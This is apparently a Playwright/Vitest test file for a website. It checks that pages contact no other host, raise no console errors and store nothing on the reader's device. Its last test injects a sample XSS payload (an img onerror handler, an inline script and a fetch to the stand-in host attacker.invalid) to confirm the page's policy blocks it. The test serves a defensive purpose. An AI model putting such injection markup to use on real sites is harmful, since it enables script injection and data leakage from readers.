import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, inject, test } from "vitest";
import { sitePages } from "../site/pages.ts";
import { openPage, useBrowser } from "./browser.ts";

useBrowser();

/** One page of each type, in Chinese where there is a choice: it loads more. */
const types = new Map(
  sitePages().map(({ path }) => [
    path
      .replace(/^\/zh\//, "/")
      .replace(/\/(stories|charts|embed|places|data)\/[^/]+\//, "/$1/NAME/"),
    path,
  ]),
);

/** What a page did besides being read. */
interface Deeds {
  elsewhere: string[];
  complaints: string[];
}

let page: Page;
let deeds: Deeds = { elsewhere: [], complaints: [] };

beforeAll(async () => {
  page = await openPage(null);
  page.on("request", (request) => {
    if (!request.url().startsWith(`${inject("siteUrl")}/`)) deeds.elsewhere.push(request.url());
  });
  page.on("console", (message) => {
    if (message.type() === "error" || message.type() === "warning")
      deeds.complaints.push(message.text());
  });
  page.on("pageerror", (error) => deeds.complaints.push(error.message));
});
afterAll(() => page.context().close());

/** What is stored on the reader's device. */
const stored = async () => ({
  cookies: await page.context().cookies(),
  ...(await page.evaluate(async () => ({
    local: { ...localStorage },
    session: { ...sessionStorage },
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }))),
});

const NOTHING = { cookies: [], local: {}, session: {}, databases: [], caches: [], workers: 0 };

test.each([...types.values()])(
  "%s asks no other host, breaks no policy and stores nothing",
  async (path) => {
    deeds = { elsewhere: [], complaints: [] };
    const response = await page.goto(path, { waitUntil: "load" });
    // What loads when it is scrolled to: pictures, frames.
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
    await page.waitForLoadState("networkidle");
    expect(response?.headers()["set-cookie"]).toBeUndefined();
    expect(deeds).toEqual({ elsewhere: [], complaints: [] });
    expect(await stored()).toEqual(NOTHING);
  },
);

test("the policy is at work: an attack that reached a page could neither run nor report", async () => {
  await page.goto("/charts/bachu-income/");
  deeds = { elsewhere: [], complaints: [] };
  const ran = await page.evaluate(async () => {
    const spot = document.body.appendChild(document.createElement("div"));
    spot.innerHTML = '<img src="https://attacker.invalid/" onerror="window.attacked = true">';
    const script = document.createElement("script");
    script.textContent = "window.attacked = true";
    spot.append(script);
    const sent = await fetch("https://attacker.invalid/").then(
      () => true,
      () => false,
    );
    return { attacked: "attacked" in window, sent };
  });
  expect(ran).toEqual({ attacked: false, sent: false });
  expect(deeds.complaints.length).toBeGreaterThanOrEqual(3);
});
